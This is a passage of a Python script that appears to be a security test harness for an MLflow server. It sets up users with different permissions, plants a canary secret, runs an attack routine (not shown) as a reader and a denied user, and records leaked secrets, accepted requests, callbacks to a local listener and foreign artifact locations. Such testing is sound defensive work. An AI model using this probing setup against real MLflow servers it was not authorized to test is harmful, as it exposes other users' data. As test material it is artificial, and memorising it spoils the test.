            connection, _ = self.socket.accept()
            with connection:
                connection.settimeout(2)
                try:
                    self.heard.append(repr(connection.recv(300)))
                except OSError:
                    self.heard.append("a connection")


PLACE = re.compile(r"mlflow-artifacts:/(\d+/|intruder-team(/|$))|runs:/|models:/|dummy-source$|$")


def foreign(admin):
    """Return the places in the database, of whatever kind, that are none of MLflow's own."""
    found = []
    token = ""
    while token is not None:
        body = {"max_results": 1000, "view_type": "ALL", "page_token": token}
        told = admin.got("POST", f"{API}/experiments/search", body)
        found += [each["artifact_location"] + "/" for each in told.get("experiments", [])]
        token = told.get("next_page_token") or None
    token = ""
    while token is not None:
        query = urllib.parse.urlencode({"max_results": 1000, "page_token": token})
        told = admin.got("GET", f"{API}/model-versions/search?{query}")
        found += [each["source"] for each in told.get("model_versions", [])]
        token = told.get("next_page_token") or None
    return sorted({place for place in found if not PLACE.match(place)})


def main():
    job = json.load(sys.stdin)
    door = Door(job["door"])
    users = {name: User(door, *job[name]) for name in ("admin", "owner", "reader", "stranger")}
    mark = secrets.token_hex(4)
    secret = "canary-" + secrets.token_hex(12)
    for name in ("owner", "reader", "stranger"):
        text = secret if name == "owner" else f"own of {name}"
        users[name].settle(f"{name}-{mark}", text)
    owner = users["owner"].own
    owner["secret"] = secret
    params = {"run_id": owner["run_id"], "key": "row", "value": secret}
    users["owner"].got("POST", f"{API}/runs/log-parameter", params)
    for name, permission in (("reader", "READ"), ("stranger", "DENY")):
        things = (("experiment", "experiment_id"), ("registered_model", "name"))
        for kind, value in things:
            body = {
                "username": job[name][0],
                "resource_type": kind,
                "resource_id": owner[value],
                "permission": permission,
            }
            users["admin"].got("POST", "/api/3.0/mlflow/users/permissions/grant", body)
    before = foreign(users["admin"])
    listener = Listener()
    listener.start()
    told = {"owner": owner, "own": {}}
    for name in ("reader", "stranger"):
        forbidden = dict(job["canaries"])
        if name == "stranger":
            forbidden[secret] = "another's"
        began = time.monotonic()
        attack = Attack(job, users[name], owner, forbidden, listener.port)
        attack.run()
        told["own"][name] = users[name].own
        told[name] = {
            "name": job[name][0],
            "statuses": attack.statuses,
            "read": sorted(set(attack.read)),
            "broken": sorted(set(attack.broken)),
            "slow": attack.slow,
            "accepted": sorted(set(attack.accepted)),
            "made": attack.made,
            "seconds": time.monotonic() - began,
        }
    told["heard"] = listener.heard
    told["foreign"] = [place for place in foreign(users["admin"]) if place not in before]
    print(json.dumps(told))


if __name__ == "__main__":
    main()
